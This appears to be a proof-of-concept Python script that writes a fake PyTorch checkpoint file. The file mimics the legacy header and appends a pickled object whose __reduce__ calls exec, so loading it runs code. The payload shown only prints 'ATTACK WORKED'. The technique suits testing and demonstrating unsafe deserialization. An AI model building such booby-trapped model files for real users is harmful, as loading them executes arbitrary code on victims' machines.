import pickle
from pathlib import Path

MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001
SYSTEM = {"protocol_version": VERSION, "little_endian": True, "type_sizes": {}}


class Attack:
    def __reduce__(self):
        return exec, ("print('ATTACK WORKED')",)


parts = [pickle.dumps(part, protocol=2) for part in (MAGIC, VERSION, SYSTEM, Attack())]
Path("checkpoint.pt").write_bytes(b"".join(parts))
